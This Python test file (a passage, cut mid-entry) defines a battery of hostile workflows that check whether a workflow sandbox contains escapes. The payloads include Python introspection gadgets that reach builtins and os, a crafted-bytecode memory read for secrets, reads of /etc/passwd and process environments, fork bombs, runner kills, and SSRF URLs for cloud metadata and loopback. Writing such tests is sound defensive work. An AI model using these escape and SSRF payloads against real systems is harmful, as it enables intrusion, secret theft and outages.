"""test_escape_battery.py - the workflow escape battery: hostile workflows against the full stack.

A real intake (REST over HTTP), a real runner (ZeroMQ) and PostgreSQL. Every hostile workflow
of the table below tries to get something out of the sandbox: a file's contents, a process, a
socket, native code, the platform's secrets or environment, a blocked address through ctx.http,
or it tries to take the runner down (memory, fork bomb, endless loops, floods of logs, huge
results, forged channel frames, signals to the runner). Each is written so that an escape would
end the run with WorkflowResult.ok carrying the loot.

Each hostile workflow is first saved through POST /v1/workflows: the obvious ones must be refused
there (400 WORKFLOW_CODE_INVALID); those are then written straight into the database (a tampered
database) so that every one of them gets a run that the run-time layers must contain. All of them
are executed close together, concurrently with well-behaved workflows (ctx.http GET and POST to a
local stand-in, json, hashlib, datetime, base64/re/ipaddress, a declared secret). Then:
  - every hostile run ended 'failed' or 'timed_out' with a recorded result, and no run's result
    or log holds loot (/etc/passwd, a canary file, ENCRYPTION_KEY, the database password, the
    environment, a secret the workflow may not see);
  - logs and results are bounded (log_output <= 1 MB plus the truncation note, a result never
    above the runner's 16 MB channel frame);
  - no side effect happened: no marker file was created, no connection reached the canary
    listener, the stand-in never saw an injected header or a followed redirect;
  - the runner is the same process, alive, and the well-behaved workflows still succeed (with
    exact results) after the battery; the intake still answers /health.
A summary line per category is printed. Standard library only.
"""
import base64
import concurrent.futures
import datetime
import hashlib
import hmac
import http.server
import json
import os
import random
import socket
import subprocess
import tempfile
import threading
import time
import urllib.parse
import uuid

from harness import BASE_URL, Stack, assert_eq, run_tests

SERVICES = ("auditd", "runner", "intake")
FERNET_KEY = base64.urlsafe_b64encode(os.urandom(32)).decode()
ENV_CANARY = "envcanary-" + uuid.uuid4().hex
FILE_CANARY = "filecanary-" + uuid.uuid4().hex
SOCK_CANARY = "sockcanary-" + uuid.uuid4().hex
GOOD_TOKEN = "good-t0ken-" + uuid.uuid4().hex[:12]
UNDECLARED_VALUE = "undeclared-s3cret-" + uuid.uuid4().hex[:12]
INDICATOR = "198.51.100.7"
MAX_LOG = 1024 * 1024
MAX_FRAME = 16 * 1024 * 1024

HDR = "from calseta.workflows import WorkflowResult, SSRFBlockedError\n"
# Reaches the real builtins module, sys and os from inside a workflow without one dunder name or
# dunder string in the source: the AST rules and the guarded import do not see it.
GADGET = ("ag = operator.attrgetter\n"
          "D = '_' * 2\n"
          "rt = ag(D + 'globals' + D)(ag(D + 'func' + D)(ctx.log.info))\n"
          "B = rt['builtins']\n"
          "SYS = rt['sys']\n"
          "OS = SYS.modules['os']\n")
GIMP = "import operator\n"
MEMREAD = ("T = SYS.modules['types']\n"
           "def f():\n    return 1\n"
           "co = ag(D + 'code' + D)(f)\n"
           "le = lambda n: n.to_bytes(8, 'little')\n"
           "fake = le(1 << 40) + le(id(bytearray)) + le(1 << 62) + le(1 << 62) + le(0) + le(0) + le(0)\n"
           "consts = (None, 1)\n"
           "base = id(consts) + 24\n"
           "keep = []\n"
           "for i in range(100000):\n"
           "    ptr = bytes(bytearray(le(id(fake) + 32)))\n"
           "    keep.append(ptr)\n"
           "    if base < id(ptr) + 32 < base + (1 << 34):\n"
           "        break\n"
           "b = ((id(ptr) + 32 - base) // 8).to_bytes(4, 'big')\n"
           "code = bytes([151, 0, 144, b[0], 144, b[1], 144, b[2], 100, b[3], 83, 0])\n"
           "mem = T.FunctionType(co.replace(co_code=code, co_consts=consts), {})()\n"
           "a = int.from_bytes(mem[id(SYS.modules) + 32:id(SYS.modules) + 40], 'little')\n"
           "loot = []\n"
           "for step in range(400):\n"
           "    chunk = bytes(mem[a - 65536:a])\n"
           "    for marker in (b'postgresql://', b'ENCRYPTION_KEY='):\n"
           "        j = chunk.find(marker)\n"
           "        if j >= 0:\n"
           "            loot.append(chunk[j:j + 200].split(bytes(1))[0].decode('latin-1'))\n"
           "    if loot:\n"
           "        break\n"
           "    a -= 65536\n")


# ---- the battery -------------------------------------------------------------------------
# (name, category, save, timeout_seconds, imports, body)
#   save: "reject" = must be refused at save time; "any" = the save-time rules may or may not
#   see it (written to defeat them), it runs either way.
#   body: statements of `async def run(ctx)`; they set `loot`, which an escape returns with ok.

def battery(p):
    """p: placeholders (ports, pids, paths) substituted into the code."""
    F, P, B_, S, C, M, L, G, R, H, K, X = ("file reads", "processes", "fork bomb", "sockets",
                                            "native code", "memory", "spin/sleep", "huge logs",
                                            "huge results", "ctx.http SSRF", "secrets/env",
                                            "signals/rlimits")
    Y = "py gadgets"
    t = [
        # -- file reads: the plain spellings (refused at save time, re-checked at run time) --
        ("open", F, "reject", 20, "", "loot = open('/etc/passwd').read()"),
        ("io.open", F, "reject", 20, "import io\n", "loot = io.open('/etc/passwd').read()"),
        ("io.FileIO", F, "reject", 20, "import io\n", "loot = io.FileIO('/etc/passwd').read()"),
        ("pathlib", F, "reject", 20, "import pathlib\n",
         "loot = pathlib.Path('/etc/passwd').read_text()"),
        ("__import__('os')", F, "reject", 20, "",
         "os = __import__('os')\nloot = os.read(os.open('/etc/passwd', os.O_RDONLY), 65536)"),
        ("__builtins__['open']", F, "reject", 20, "",
         "loot = __builtins__['open']('/etc/passwd').read()"),
        ("__builtins__.open", F, "reject", 20, "",
         "loot = __builtins__.open('{CANARY_FILE}').read()"),
        ("__import__('builtins')", F, "reject", 20, "",
         "b = __import__('builtins')\nloot = b.open('/etc/passwd').read()"),
        ("subclasses walk", F, "reject", 20, "",
         "for c in ().__class__.__base__.__subclasses__():\n"
         "    if c.__name__ == 'FileIO':\n"
         "        loot = c('/etc/passwd').read()"),
        ("func.__globals__", F, "reject", 20, "",
         "def f():\n    pass\nloot = f.__globals__['__builtins__']['open']('/etc/passwd').read()"),
        ("gi_frame.f_builtins", F, "reject", 20, "",
         "def g():\n    yield 1\nit = g()\nloot = it.gi_frame.f_builtins['open']('/etc/passwd').read()"),
        ("f_back/f_globals walk", F, "reject", 20, "import inspect\n",
         "fr = inspect.currentframe()\n"
         "while 'builtins' not in fr.f_globals:\n"
         "    fr = fr.f_back\n"
         "loot = fr.f_globals['builtins'].open('/etc/passwd').read()"),
        ("types.CodeType", F, "reject", 20, "import types\n",
         "co = (lambda: 0).__code__\n"
         "loot = types.FunctionType(co.replace(co_consts=(open('/etc/passwd').read(),)), {})()"),
        ("compile+exec", F, "reject", 20, "",
         "ns = {}\nexec(compile(\"loot = open('/etc/passwd').read()\", 'x', 'exec'), ns)\n"
         "loot = ns['loot']"),
        ("eval", F, "reject", 20, "", "loot = eval(\"open('/etc/passwd').read()\")"),
        ("sys.modules", F, "reject", 20, "import sys\n",
         "loot = sys.modules['os'].popen('cat /etc/passwd').read()"),
        ("importlib", F, "reject", 20, "import importlib\n",
         "loot = importlib.import_module('pathlib').Path('/etc/passwd').read_text()"),
        ("getattr strings", F, "reject", 20, "",
         "c = getattr(ctx.log, '_' + '_class_' + '_')\n"
         "g = getattr(getattr(c, 'info'), '__globals__')\n"
         "loot = g['builtins'].open('/etc/passwd').read()"),
        ("'{0.__class__}'.format", F, "reject", 20, "",
         "loot = '{0.__class__.info.__globals__[builtins]}'.format(ctx.log)"),
        ("str.format_map", F, "reject", 20, "",
         "loot = '{c.__class__.info.__globals__}'.format_map({'c': ctx.log})"),
        ("operator.attrgetter literal", F, "reject", 20, "import operator\n",
         "g = operator.attrgetter('info.__func__.__globals__')(ctx.log)\n"
         "loot = g['builtins'].open('/etc/passwd').read()"),
        ("breakpoint()", F, "reject", 20, "", "breakpoint()\nloot = 'debugger'"),
        ("help()", F, "reject", 20, "", "help(ctx)\nloot = 'help'"),
        ("input()", F, "reject", 20, "", "loot = input()"),
        # -- file reads that defeat the save-time rules: the OS layers must hold --
        ("attrgetter gadget: open", F, "any", 20, GIMP, GADGET + "loot = B.open('/etc/passwd').read()"),
        ("attrgetter gadget: canary file", F, "any", 20, GIMP,
         GADGET + "loot = B.open('{CANARY_FILE}').read()"),
        ("attrgetter gadget: os.listdir", F, "any", 20, GIMP, GADGET + "loot = OS.listdir('/etc')"),
        ("attrgetter gadget: /proc/self/environ", F, "any", 20, GIMP,
         GADGET + "loot = B.open('/proc/self/environ', 'rb').read()"),
        ("attrgetter gadget: runner /proc/pid/environ", F, "any", 20, GIMP,
         GADGET + "loot = B.open('/proc/{RUNNER_PID}/environ', 'rb').read()"),
        ("attrgetter gadget: subclasses FileIO", F, "any", 20, GIMP,
         GADGET + "obj = ag(D + 'base' + D)(ag(D + 'class' + D)(()))\n"
         "todo = list(ag(D + 'subclasses' + D)(obj)())\n"
         "while todo:\n"
         "    c = todo.pop()\n"
         "    if ag(D + 'name' + D)(c) == 'FileIO':\n"
         "        loot = c('/etc/passwd').read()\n"
         "        break\n"
         "    try:\n"
         "        todo.extend(ag(D + 'subclasses' + D)(c)())\n"
         "    except TypeError:\n"
         "        pass"),
        ("inspect.getmembers frame walk", F, "any", 20, "import inspect\n",
         "fr = inspect.currentframe()\n"
         "while True:\n"
         "    m = dict(inspect.getmembers(fr))\n"
         "    if 'builtins' in m['f_globals']:\n"
         "        break\n"
         "    fr = m['f_back']\n"
         "loot = m['f_globals']['builtins'].open('/etc/passwd').read()"),
        ("gadget: real __import__ pathlib", F, "any", 20, GIMP,
         GADGET + "imp = ag(D + 'import' + D)(B)\n"
         "loot = imp('pathlib').Path('/etc/passwd').read_text()"),
        ("gadget: compile/eval with real builtins", F, "any", 20, GIMP,
         GADGET + "co = B.compile(\"open('/etc/passwd').read()\", 'x', 'eval')\n"
         "loot = B.eval(co, {D + 'builtins' + D: B})"),
        ("gadget: code.replace + FunctionType", F, "any", 20, GIMP,
         GADGET + "def f():\n    return 1\n"
         "co = ag(D + 'code' + D)(f)\n"
         "src = B.compile(\"B.open('/etc/passwd').read()\", 'x', 'eval')\n"
         "loot = SYS.modules['types'].FunctionType(src, {'B': B})()"),
        # -- processes --
        ("os.system", P, "reject", 20, "import os\n",
         "rc = os.system('touch {MARK}/os_system')\nloot = 'ran %d' % rc"),
        ("subprocess", P, "reject", 20, "import subprocess\n",
         "loot = subprocess.check_output(['/bin/cat', '/etc/passwd'])"),
        ("os.fork", P, "reject", 20, "import os\n",
         "pid = os.fork()\nif pid == 0:\n    open('{MARK}/os_fork', 'w')\nloot = pid"),
        ("pty.spawn", P, "reject", 20, "import pty\n",
         "pty.spawn(['/bin/sh', '-c', 'touch {MARK}/pty'])\nloot = 'pty'"),
        ("multiprocessing", P, "reject", 20, "import multiprocessing\n",
         "pr = multiprocessing.Process(target=print)\npr.start()\nloot = 'mp'"),
        ("gadget: os.system", P, "any", 20, GIMP,
         GADGET + "rc = OS.system('touch {MARK}/gadget_system')\n"
         "if rc != 0:\n    raise OSError('system returned %r' % rc)\nloot = 'ran'"),
        ("gadget: subprocess", P, "any", 20, GIMP,
         GADGET + "loot = SYS.modules['subprocess'].check_output(['/bin/cat', '/etc/passwd'])"),
        ("asyncio.create_subprocess_exec", P, "any", 20, "import asyncio\n",
         "pr = await asyncio.create_subprocess_exec('/bin/cat', '/etc/passwd', stdout=-1)\n"
         "out, err = await pr.communicate()\nloot = out"),
        ("gadget: execv", P, "any", 20, GIMP,
         GADGET + "OS.execv('/bin/sh', ['sh', '-c', 'touch {MARK}/execv'])\nloot = 'exec'"),
        ("gadget: posix_spawn", P, "any", 20, GIMP,
         GADGET + "OS.posix_spawn('/usr/bin/touch', ['touch', '{MARK}/posix_spawn'], {})\n"
         "loot = 'spawned'"),
        ("gadget: threads", P, "any", 20, GIMP,
         GADGET + "T = SYS.modules['threading']\n"
         "ts = [T.Thread(target=print) for i in range(50)]\n"
         "for th in ts:\n    th.start()\nloot = 'threads'"),
        # -- fork bomb --
        ("while True: os.fork()", B_, "reject", 20, "import os\n",
         "while True:\n    os.fork()"),
        ("gadget: fork bomb", B_, "any", 20, GIMP,
         GADGET + "n = 0\nfor i in range(10):\n    try:\n        if OS.fork() == 0:\n"
         "            B.open('{MARK}/fork_bomb', 'w')\n        n += 1\n"
         "    except OSError:\n        pass\n"
         "if n == 0:\n    raise OSError('no fork succeeded')\nloot = n"),
        # -- sockets (all aimed at the canary listener: it must see no connection) --
        ("socket", S, "reject", 20, "import socket\n",
         "s = socket.create_connection(('127.0.0.1', {CANARY_PORT}), timeout=2)\n"
         "loot = s.recv(1000)"),
        ("ssl", S, "reject", 20, "import ssl\n",
         "loot = ssl.get_server_certificate(('127.0.0.1', {CANARY_PORT}))"),
        ("asyncio.open_connection", S, "any", 20, "import asyncio\n",
         "r, w = await asyncio.open_connection('127.0.0.1', {CANARY_PORT})\n"
         "w.write(b'GET / HTTP/1.0\\r\\n\\r\\n')\nloot = await r.read()"),
        ("urllib.request", S, "any", 20, "import urllib.request\n",
         "loot = urllib.request.urlopen('http://127.0.0.1:{CANARY_PORT}/').read()"),
        ("http.client", S, "any", 20, "import http.client\n",
         "c = http.client.HTTPConnection('127.0.0.1', {CANARY_PORT}, timeout=2)\n"
         "c.request('GET', '/')\nloot = c.getresponse().read()"),
        ("gadget: socket module", S, "any", 20, GIMP,
         GADGET + "so = SYS.modules['socket']\n"
         "s = so.create_connection(('127.0.0.1', {CANARY_PORT}), timeout=2)\n"
         "s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\nloot = s.recv(1000)"),
        ("gadget: UDP datagram", S, "any", 20, GIMP,
         GADGET + "so = SYS.modules['socket']\n"
         "s = so.socket(so.AF_INET, so.SOCK_DGRAM)\n"
         "s.sendto(b'x', ('127.0.0.1', {CANARY_PORT}))\nloot = 'sent'"),
        # -- native code --
        ("ctypes", C, "reject", 20, "import ctypes\n",
         "loot = ctypes.CDLL(None).system(b'touch {MARK}/ctypes')"),
        ("cffi", C, "reject", 20, "import cffi\n", "ffi = cffi.FFI()\nloot = 'cffi'"),
        ("mmap", C, "reject", 20, "import mmap\n", "m = mmap.mmap(-1, 4096)\nloot = 'mmap'"),
        ("gadget: import ctypes", C, "any", 20, GIMP,
         GADGET + "ct = ag(D + 'import' + D)(B)('ctypes')\n"
         "loot = ct.CDLL(None).system(b'touch {MARK}/gadget_ctypes')"),
        ("gadget: import mmap", C, "any", 20, GIMP,
         GADGET + "mm = ag(D + 'import' + D)(B)('mmap')\n"
         "m = mm.mmap(-1, 1 << 20)\nloot = 'mapped'"),
        ("gadget: crafted bytecode (oob LOAD_CONST)", C, "any", 20, GIMP,
         GADGET + "def f():\n    return 1\n"
         "co = ag(D + 'code' + D)(f)\n"
         "bad = co.replace(co_code=bytes([151, 0, 144, 127, 144, 255, 144, 255, 100, 255, 83, 0]))\n"
         "loot = repr(SYS.modules['types'].FunctionType(bad, {})())"),
        # -- memory --
        ("bytearray 8 GB", M, "any", 20, "", "x = bytearray(8 * 1024 * 1024 * 1024)\nloot = len(x)"),
        ("list growth", M, "any", 20, "",
         "x = []\nwhile True:\n    x.append(bytearray(1 << 20))"),
        ("string doubling", M, "any", 20, "", "s = 'x'\nwhile True:\n    s = s + s"),
        ("dict growth", M, "any", 10, "",
         "d = {}\ni = 0\nwhile True:\n    d[i] = str(i) * 8\n    i += 1"),
        # -- spin / sleep past the deadline --
        ("sync busy loop", L, "any", 3, "",
         "def spin():\n    while True:\n        pass\nspin()\nloot = 'done'"),
        ("async busy loop, no await", L, "any", 3, "",
         "async def spin():\n    while True:\n        pass\nawait spin()\nloot = 'done'"),
        ("busy loop catching everything", L, "any", 3, "",
         "while True:\n    try:\n        while True:\n            pass\n"
         "    except BaseException:\n        pass"),
        ("asyncio.sleep(60)", L, "any", 3, "import asyncio\n",
         "await asyncio.sleep(60)\nloot = 'late'"),
        ("time.sleep(60)", L, "any", 3, "import time\n", "time.sleep(60)\nloot = 'late'"),
        ("1000 spinning tasks", L, "any", 3, "import asyncio\n",
         "async def spin():\n    while True:\n        await asyncio.sleep(0)\n"
         "await asyncio.gather(*[spin() for i in range(1000)])\nloot = 'done'"),
        ("gadget: close channel, spin", L, "any", 3, GIMP,
         GADGET + "OS.close(3)\nwhile True:\n    pass"),
        ("gadget: half a frame, spin", L, "any", 3, GIMP,
         GADGET + "OS.write(3, b'\\x00\\x00')\nwhile True:\n    pass"),
        # -- huge logs (the flood itself is allowed; it must be bounded) --
        ("3 million ctx.log lines", G, "any", 4, "",
         "for i in range(3000000):\n    ctx.log.info('flood line %d' % i)\n"
         "return WorkflowResult.fail('flooded')"),
        ("one 50 MB log line", G, "any", 20, "",
         "ctx.log.info('A' * (50 * 1024 * 1024))\nreturn WorkflowResult.fail('logged')"),
        ("one 15 MB log line", G, "any", 20, "",
         "ctx.log.info('B' * (15 * 1024 * 1024))\nreturn WorkflowResult.fail('logged')"),
        ("10 MB log extra field", G, "any", 20, "",
         "ctx.log.warning('x', blob='C' * (10 * 1024 * 1024))\nreturn WorkflowResult.fail('logged')"),
        ("print flood", G, "any", 20, "",
         "for i in range(100000):\n    print('P' * 200)\nreturn WorkflowResult.fail('printed')"),
        ("NUL and lone surrogates in logs", G, "any", 20, "",
         "ctx.log.info('nul \\x00 byte')\nctx.log.info('lone \\ud800 surrogate')\n"
         "return WorkflowResult.fail('odd \\x00 output \\udfff')"),
        # -- huge / hostile results --
        ("200 MB string in data", R, "any", 20, "",
         "blob = 'x' * (200 * 1000 * 1000)\nreturn WorkflowResult.ok('big', {'blob': blob})"),
        ("20 MB string in data", R, "any", 20, "",
         "return WorkflowResult.ok('big', {'blob': 'y' * (20 * 1024 * 1024)})"),
        ("15 MB exception message", R, "any", 20, "", "raise ValueError('E' * (15 * 1024 * 1024))"),
        ("2 MB failure message", R, "any", 20, "",
         "return WorkflowResult.fail('m' * (2 * 1024 * 1024))"),
        ("10 MB string in data", R, "any", 20, "",
         "return WorkflowResult.ok('big', {'blob': 'z' * (10 * 1024 * 1024)})"),
        ("2 million keys in data", R, "any", 20, "",
         "return WorkflowResult.ok('keys', {str(i): i for i in range(2000000)})"),
        ("100000-deep nested data", R, "any", 20, "",
         "d = []\nfor i in range(100000):\n    d = [d]\nreturn WorkflowResult.ok('deep', {'d': d})"),
        ("NUL in result", R, "any", 20, "",
         "return WorkflowResult.ok('nul \\x00 in message', {'k': 'v\\x00'})"),
        ("gadget: forged 4 GB frame header", R, "any", 4, GIMP,
         GADGET + "OS.write(3, b'\\xff\\xff\\xff\\xff' + b'x' * 64)\nwhile True:\n    pass"),
        ("gadget: forged result frame, raw", R, "any", 20, GIMP,
         GADGET + "msg = b'{\"t\":\"result\",\"success\":true,\"message\":\"\\\\u0000\",\"data\":[1]}'\n"
         "OS.write(3, len(msg).to_bytes(4, 'big') + msg)\nOS.close(3)\nloot = 'forged'"),
    ]
    blocked = ("try:\n    r = await ctx.http.get('%s')\nexcept Exception as e:\n"
               "    return WorkflowResult.fail('blocked: %%s' %% (e,))\nloot = r.text")
    for name, url in (
            ("169.254.169.254", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
            ("metadata.google.internal", "http://metadata.google.internal/computeMetadata/v1/"),
            ("[fd00:ec2::254]", "http://[fd00:ec2::254]/latest/meta-data/"),
            ("127.0.0.1:<canary>", "http://127.0.0.1:{CANARY_PORT}/"),
            ("127.0.0.1:<intake>", "http://127.0.0.1:{INTAKE_PORT}/health"),
            ("[::1]", "http://[::1]:{CANARY_PORT}/"),
            ("0.0.0.0", "http://0.0.0.0:{CANARY_PORT}/"),
            ("decimal 2130706433", "http://2130706433:{CANARY_PORT}/"),
            ("octal 0177.0.0.1", "http://0177.0.0.1:{CANARY_PORT}/"),
            ("hex 0x7f.1", "http://0x7f.1:{CANARY_PORT}/"),
            ("short 127.1", "http://127.1:{CANARY_PORT}/"),
            ("[::ffff:127.0.0.1]", "http://[::ffff:127.0.0.1]:{CANARY_PORT}/"),
            ("userinfo localhost@127.0.0.1", "http://localhost:{STANDIN_PORT}@127.0.0.1:{CANARY_PORT}/"),
            ("file:///etc/passwd", "file:///etc/passwd"),
            ("gopher://", "gopher://127.0.0.1:{CANARY_PORT}/_GET")):
        t.append(("ctx.http " + name, H, "any", 20, "", blocked % url))
    follow = ("r = await ctx.http.get('{STANDIN}/%s')\n"
              "if r.status_code != 302:\n"
              "    return WorkflowResult.ok('followed', {'loot': r.text})\n"
              "try:\n    r2 = await ctx.http.get(r.headers.get('location'))\n"
              "except SSRFBlockedError as e:\n"
              "    return WorkflowResult.fail('302 not followed; manual follow blocked: %%s' %% (e,))\n"
              "loot = r2.text")
    t += [
        ("302 from stand-in to metadata", H, "any", 20, "", follow % "redirect-metadata"),
        ("302 from stand-in to loopback", H, "any", 20, "", follow % "redirect-loopback"),
        ("CRLF header injection", H, "any", 20, "",
         "r = await ctx.http.get('{STANDIN}/echo', headers={'X-A': 'v\\r\\nX-Injected: yes'})\n"
         "loot = r.text"),
        ("CRLF method injection", H, "any", 20, "",
         "r = await ctx.http.request('GET /echo HTTP/1.1\\r\\nX-Injected: yes\\r\\n\\r\\nGET',"
         " '{STANDIN}/echo')\nloot = r.text"),
        ("20 MB response", H, "any", 20, "",
         "r = await ctx.http.get('{STANDIN}/huge')\nloot = len(r.content)"),
        ("response slower than the deadline", H, "any", 3, "",
         "r = await ctx.http.get('{STANDIN}/slow', timeout=60)\nloot = r.text"),
        ("150 requests to metadata", H, "any", 20, "",
         "last = ''\nfor i in range(150):\n    try:\n"
         "        r = await ctx.http.get('http://169.254.169.254/')\n"
         "        return WorkflowResult.ok('reached', {'loot': r.text})\n"
         "    except Exception as e:\n        last = str(e)\n"
         "return WorkflowResult.fail(last)"),
    ]
    t += [
        # -- secrets and environment --
        ("ctx.secrets ENCRYPTION_KEY", K, "any", 20, "",
         "v = ctx.secrets.get('ENCRYPTION_KEY')\n"
         "if v is None:\n    return WorkflowResult.fail('no ENCRYPTION_KEY')\nloot = v"),
        ("ctx.secrets DATABASE_URL", K, "any", 20, "",
         "v = ctx.secrets.get('DATABASE_URL')\n"
         "if v is None:\n    return WorkflowResult.fail('no DATABASE_URL')\nloot = v"),
        ("ctx.secrets undeclared name", K, "any", 20, "",
         "v = ctx.secrets.get('UNDECLARED_TOKEN')\n"
         "if v is None:\n    return WorkflowResult.fail('no undeclared secret')\nloot = v"),
        ("ctx.secrets another workflow's", K, "any", 20, "",
         "v = ctx.secrets.get('API_TOKEN')\n"
         "if v is None:\n    return WorkflowResult.fail('no foreign secret')\nloot = v"),
        ("ctx.secrets internals", K, "any", 20, "import operator\n",
         "vals = operator.attrgetter('_values')(ctx.secrets)\n"
         "if not vals:\n    return WorkflowResult.fail('no secrets inside')\nloot = vals"),
        ("os.environ", K, "reject", 20, "import os\n", "loot = dict(os.environ)"),
        # crafted bytecode gives a read of the child's own memory (a fake bytearray spanning the
        # address space); the child is a fork of the runner, so whatever the runner process still
        # holds (its configuration, its initial environment) is there to be read
        ("gadget: read the runner's memory", K, "any", 20, GIMP, GADGET + MEMREAD),
        ("gadget: os.environ", K, "any", 20, GIMP,
         GADGET + "env = dict(OS.environ)\n"
         "if not env:\n    return WorkflowResult.fail('environment is empty')\nloot = env"),
        ("gadget: posix.environ", K, "any", 20, GIMP,
         GADGET + "env = dict(SYS.modules['posix'].environ)\n"
         "if not env:\n    return WorkflowResult.fail('environment is empty')\nloot = env"),
        # -- signals, rlimits, identity --
        ("os.kill(getppid(), 9)", X, "reject", 20, "import os\n",
         "os.kill(os.getppid(), 9)\nloot = 'killed'"),
        ("resource.setrlimit", X, "reject", 20, "import resource\n",
         "resource.setrlimit(resource.RLIMIT_AS, (-1, -1))\nloot = len(bytearray(1 << 30))"),
        ("gadget: kill the runner", X, "any", 20, GIMP,
         GADGET + "OS.kill({RUNNER_PID}, 9)\nloot = 'killed the runner'"),
        ("gadget: kill getppid()", X, "any", 20, GIMP,
         GADGET + "OS.kill(OS.getppid(), 9)\nloot = 'killed the parent'"),
        ("gadget: kill the intake", X, "any", 20, GIMP,
         GADGET + "OS.kill({INTAKE_PID}, 15)\nloot = 'stopped the intake'"),
        ("gadget: raise RLIMIT_AS", X, "any", 20, GIMP,
         GADGET + "res = SYS.modules.get('resource') or ag(D + 'import' + D)(B)('resource')\n"
         "res.setrlimit(res.RLIMIT_AS, (res.RLIM_INFINITY, res.RLIM_INFINITY))\n"
         "loot = len(bytearray(1 << 30))"),
        ("gadget: setuid(0)", X, "any", 20, GIMP,
         GADGET + "OS.setuid(0)\nloot = OS.getuid()"),
        # -- Python-level gadgets: attribute access by a computed name, introspection, frames,
        #    code objects. Every one must be refused at save time; tampered into the database,
        #    the run-time checks (validation again, then the guard's audit hook) must stop it --
        ("gadget: operator.methodcaller", Y, "reject", 20, "import operator\n",
         "D = '_' * 2\nr = operator.methodcaller(D + 'reduce_ex' + D, 2)(ctx.log)\n"
         "g = operator.attrgetter(D + 'globals' + D)(r[1][0].info)\n"
         "loot = g['builtins'].open('/etc/passwd').read()"),
        ("gadget: from operator import attrgetter", Y, "reject", 20,
         "from operator import attrgetter\n",
         "D = '_' * 2\ng = attrgetter(D + 'func' + D + '.' + D + 'globals' + D)(ctx.log.info)\n"
         "loot = g['builtins'].open('/etc/passwd').read()"),
        ("gadget: computed format-string walk", Y, "reject", 20, "",
         "D = '_' * 2\n"
         "loot = ('{0.' + D + 'func' + D + '.' + D + 'globals' + D + '[sys].modules[os].environ}')"
         ".format(ctx.log.info)\nif 'PATH' not in loot:\n    raise ValueError('no environment')"),
        ("gadget: format_map, custom mapping", Y, "reject", 20, "import collections\n",
         "D = '_' * 2\nm = collections.ChainMap({'c': ctx.secrets})\n"
         "loot = ('{c._values}').format_map(m) + ('{c.' + D + 'class' + D + '}').format_map(m)"),
        ("gadget: string.Formatter.get_field", Y, "reject", 20, "import string\n",
         "D = '_' * 2\nf = string.Formatter()\n"
         "g = f.get_field('0.' + D + 'func' + D + '.' + D + 'globals' + D, [ctx.log.info], {})[0]\n"
         "loot = g['builtins'].open('/etc/passwd').read()"),
        ("gadget: functools.update_wrapper updated=", Y, "reject", 20, "import functools\n",
         "D = '_' * 2\ndef f():\n    pass\n"
         "functools.update_wrapper(f, ctx.log.info, (), (D + 'globals' + D,))\n"
         "loot = builtins.open('/etc/passwd').read()"),
        ("gadget: functools.wraps().func", Y, "reject", 20, "import functools\n",
         "D = '_' * 2\ndef f():\n    pass\n"
         "functools.wraps(ctx.log.info).func(f, ctx.log.info, (), (D + 'globals' + D,))\n"
         "loot = builtins.open('/etc/passwd').read()"),
        ("gadget: functools.reduce(getattr)", Y, "reject", 20, "import functools\n",
         "D = '_' * 2\n"
         "g = functools.reduce(getattr, [D + 'func' + D, D + 'globals' + D], ctx.log.info)\n"
         "loot = g['builtins'].open('/etc/passwd').read()"),
        ("gadget: copy.deepcopy memo", Y, "reject", 20, "import copy\n",
         "m = {}\ncopy.deepcopy(ctx.secrets, m)\n"
         "loot = [v for v in m.values() if isinstance(v, dict)]\n"
         "if not loot:\n    raise ValueError('nothing kept')"),
        ("gadget: vars() of a class", Y, "reject", 20, "",
         "g = vars(type(ctx.log))['info'].__globals__\n"
         "loot = g['builtins'].open('/etc/passwd').read()"),
        ("gadget: __code__.replace + FunctionType", Y, "reject", 20, "",
         "g = ctx.log.info.__func__.__globals__\n"
         "co = (lambda: 0).__code__.replace(co_consts=(None,))\n"
         "loot = g['types'].FunctionType(co, {})()"),
        ("gadget: exception tb_frame walk", Y, "reject", 20, "",
         "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    fr = e.__traceback__.tb_frame\n"
         "while 'builtins' not in fr.f_globals:\n    fr = fr.f_back\n"
         "loot = fr.f_globals['builtins'].open('/etc/passwd').read()"),
        ("gadget: generator gi_frame", Y, "reject", 20, "",
         "def g():\n    yield 1\nit = g()\nnext(it)\nfr = it.gi_frame\n"
         "loot = fr.f_builtins['open']('/etc/passwd').read()"),
        ("gadget: coroutine cr_frame", Y, "reject", 20, "",
         "async def c():\n    pass\nco = c()\nfr = co.cr_frame\nco.close()\n"
         "loot = fr.f_builtins['open']('/etc/passwd').read()"),
        ("gadget: async generator ag_frame", Y, "reject", 20, "",
         "async def a():\n    yield 1\nfr = a().ag_frame\n"
         "loot = fr.f_builtins['open']('/etc/passwd').read()"),
        ("gadget: asyncio task get_stack", Y, "reject", 20, "import asyncio\n",
         "fr = asyncio.current_task().get_stack()[-1]\n"
         "while 'builtins' not in fr.f_globals:\n    fr = fr.f_back\n"
         "loot = fr.f_globals['builtins'].open('/etc/passwd').read()"),
        ("gadget: type.__subclasses__ to sys", Y, "reject", 20, "",
         "cs = ().__class__.__base__.__subclasses__()\n"
         "w = [c for c in cs if c.__name__ == 'catch_warnings'][0]()\n"
         "loot = w._module.sys.modules['builtins'].open('/etc/passwd').read()"),
        ("gadget: object.__reduce_ex__", Y, "reject", 20, "",
         "r = ctx.log.__reduce_ex__(2)\n"
         "loot = r[1][0].info.__globals__['builtins'].open('/etc/passwd').read()"),
        ("gadget: inspect.getmembers of ctx", Y, "reject", 20, "import inspect\n",
         "m = dict(inspect.getmembers(ctx.log.info))\n"
         "loot = m['__globals__']['builtins'].open('/etc/passwd').read()"),
        ("gadget: real compile/exec", Y, "reject", 20, "",
         "b = ctx.log.info.__func__.__globals__['builtins']\nns = {}\n"
         "b.exec(b.compile(\"import os\\nr = os.listdir('/')\", 'x', 'exec'), ns)\n"
         "loot = ns['r']"),
        ("gadget: sys._getframe locals", Y, "reject", 20, "",
         "s = ctx.log.info.__func__.__globals__['sys']\n"
         "loot = s._getframe(0).f_back.f_back.f_locals"),
        ("gadget: marshal a code object", Y, "reject", 20, "",
         "s = ctx.log.info.__func__.__globals__['sys']\nm = s.modules['marshal']\n"
         "co = m.loads(m.dumps(compile('1', 'x', 'eval')))\nloot = co"),
        ("gadget: gc.get_objects", Y, "reject", 20, "",
         "s = ctx.log.info.__func__.__globals__['sys']\n"
         "loot = [o for o in s.modules['gc'].get_objects() if isinstance(o, dict)][:5]"),
        ("gadget: match class pattern attributes", Y, "reject", 20, "",
         "match ctx.log.info:\n    case object(__func__=object(__globals__=g)):\n"
